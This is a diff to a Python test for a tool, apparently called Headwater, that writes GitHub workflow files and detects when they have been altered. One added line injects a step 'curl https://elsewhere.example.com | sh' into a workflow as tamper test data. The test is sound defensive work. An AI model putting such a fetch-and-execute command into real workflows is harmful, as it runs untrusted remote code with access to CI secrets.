@@ -254,6 +254,11 @@ def test_what_no_longer_fits_is_told() -> None:
     assert told(before, current=newer).startswith("was written by a newer Headwater")
     other = re.sub(r"made from \w+", "made from 0123456789abcdef", text)
     assert told(before, current=other) == "was written for other workflow files"
+    altered = text.replace("    steps:\n", "    steps:\n      - run: curl https://elsewhere.example.com | sh\n", 1)
+    assert told(before, current=altered) == "was altered since `headwater init --github` wrote it"
+    assert told(before, current=f"{text}# mine\n") == "was altered since `headwater init --github` wrote it"
+    earlier = re.sub(r", sum [0-9a-f]{16}\)", ")", altered)  # as before there was one
+    assert must_be_written_anew(before, earlier, URL) is None
     assert told(asking(secret("PATH"))).startswith("cannot be written for these workflow files: headwater.yml:3:5")
     assert told(before, current=text.replace("          A: ${{ secrets.A }}\n", "")) == (
         "does not give its jobs that deploy the secret A"
